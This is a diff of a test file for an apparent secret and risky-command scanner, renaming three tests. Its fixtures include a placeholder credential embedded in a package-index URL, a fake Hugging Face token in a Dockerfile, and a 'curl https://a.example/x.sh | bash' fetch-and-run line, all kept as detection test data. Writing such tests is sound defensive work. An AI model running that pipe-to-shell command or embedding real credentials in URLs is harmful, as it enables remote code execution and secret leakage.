@@ -83,7 +83,7 @@ URL = "https://ci:s3cr3tW0rd77@packages.acme.example/simple"
         ),
     ],
 )
-def test_a_credential_that_two_checks_see_is_told_once(path, text, tmp_path, capsys):
+def test_a_credential_that_two_checks_see_is_reported_once(path, text, tmp_path, capsys):
     root = written(tmp_path, {path: text})
     _, report, _ = scanned(capsys, root / path)
     (entry,) = report["files"]
@@ -92,7 +92,7 @@ def test_a_credential_that_two_checks_see_is_told_once(path, text, tmp_path, cap
     assert "TW-PIPE-SECRET" not in reported
 
 
-def test_another_password_beside_a_credential_is_told(tmp_path, capsys):
+def test_another_password_beside_a_credential_is_reported(tmp_path, capsys):
     text = f"FROM python:3.12\nENV PIP_INDEX_URL={URL}\nENV HF_TOKEN=hf_{'aB3dE6gH9k' * 4}\n"
     root = written(tmp_path, {"Dockerfile": text})
     _, report, _ = scanned(capsys, root / "Dockerfile")
@@ -101,7 +101,7 @@ def test_another_password_beside_a_credential_is_told(tmp_path, capsys):
     assert secret["evidence"]["line"] == 3
 
 
-def test_a_command_that_fetches_and_runs_is_told_once(tmp_path, capsys):
+def test_a_command_that_fetches_and_runs_is_reported_once(tmp_path, capsys):
     root = written(tmp_path, {"run.sh": "set -e\ncurl https://a.example/x.sh | bash\n"})
     _, report, _ = scanned(capsys, root / "run.sh")
     (entry,) = report["files"]
